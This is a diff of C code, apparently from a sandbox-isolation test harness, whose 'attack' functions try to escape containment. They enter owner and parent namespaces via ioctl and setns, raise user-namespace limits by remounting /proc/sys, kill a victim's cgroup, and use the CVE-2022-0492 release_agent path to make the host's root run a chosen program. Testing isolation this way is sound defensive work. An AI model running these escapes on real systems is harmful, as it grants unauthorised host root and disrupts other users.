@@ -52,6 +52,27 @@ static void walk(unsigned long request, const char *how)
 		close(ns);
 }
 
+/* The user namespaces that own the attacker's namespaces, and the ones above. */
+static void try_owners(void)
+{
+	static const char *const types[] = { "mnt", "pid", "uts", "ipc", "cgroup", "net", "user" };
+	char path[64];
+
+	for (size_t i = 0; i < sizeof(types) / sizeof(*types); i++) {
+		int ns, owner;
+
+		snprintf(path, sizeof(path), "/proc/self/ns/%s", types[i]);
+		ns = open(path, O_RDONLY | O_CLOEXEC);
+		for (unsigned int request = 1; request <= 2; request++) {
+			owner = ioctl(ns, _IO(0xb7, request));
+			if (owner >= 0 && setns(owner, 0) == 0)
+				printf("entered the %s of %s\n", request == 1 ? "owner" : "parent",
+				       path);
+		}
+	}
+	look_in("/");
+}
+
 static void try_walks(void)
 {
 	walk(GET_PREV, "NS_MNT_GET_PREV");
@@ -63,25 +84,12 @@ void attack_neighbours(char **args)
 {
 	(void)args;
 	try_walks();
+	try_owners();
 	if (unshare(CLONE_NEWNS) == 0)
 		try_walks();
+	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
+		try_walks();
 }
-
-/*
- * A user namespace below this one: it gives the attacker all of the kernel's surface that needs
- * capabilities. Two processes stay, one of them in it.
- */
-void attack_userns(char **args)
-{
-	(void)args;
-	if (fork() == 0)
-		wait_for_judge();
-	if (unshare(CLONE_NEWUSER) < 0)
-		printf("unshare: %s\n", strerror(errno));
-	wait_for_judge();
-}
-
-/* ---- cgroups ---- */
 
 static void write_to(const char *directory, const char *file, const char *text)
 {
@@ -97,7 +105,31 @@ static void write_to(const char *directory, const char *file, const char *text)
 	close(fd);
 }
 
-/* Of a cgroup filesystem that is shown read-only: writable, then all that is in the victim's group is killed. */
+/*
+ * A user namespace below this one: it gives the attacker all of the kernel's surface that needs
+ * capabilities. Two processes stay, one of them in it.
+ */
+void attack_userns(char **args)
+{
+	static const char limit[] = "/proc/sys/user";
+
+	(void)args;
+	if (fork() == 0)
+		for (;;)
+			pause();
+	/* A limit that the attacker can raise is none. */
+	write_to(limit, "max_user_namespaces", "1000");
+	mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
+	write_to(limit, "max_user_namespaces", "1000");
+	if (unshare(CLONE_NEWUSER) < 0)
+		printf("unshare: %s\n", strerror(errno));
+	wait_for_judge();
+}
+
+/* ---- cgroups ---- */
+
+/* Of a cgroup filesystem that is shown read-only: writable, then all that is in the victim's group is
+ * killed. */
 static void kill_group(const char *place, const char *group)
 {
 	char path[4352];
@@ -126,6 +158,7 @@ void attack_cgroup(char **args)
 			kill_group("/tmp/cgroup", *group);
 	else
 		printf("mount cgroup2: %s\n", strerror(errno));
+	usleep(100000); /* who is killed ends in its own time */
 	/* CVE-2022-0492: the host's root executes what is named here. */
 	if (mount("none", "/tmp/cgroup", "cgroup", 0, "pids") == 0)
 		write_to("/tmp/cgroup", "release_agent", "/mnt/img/agent");
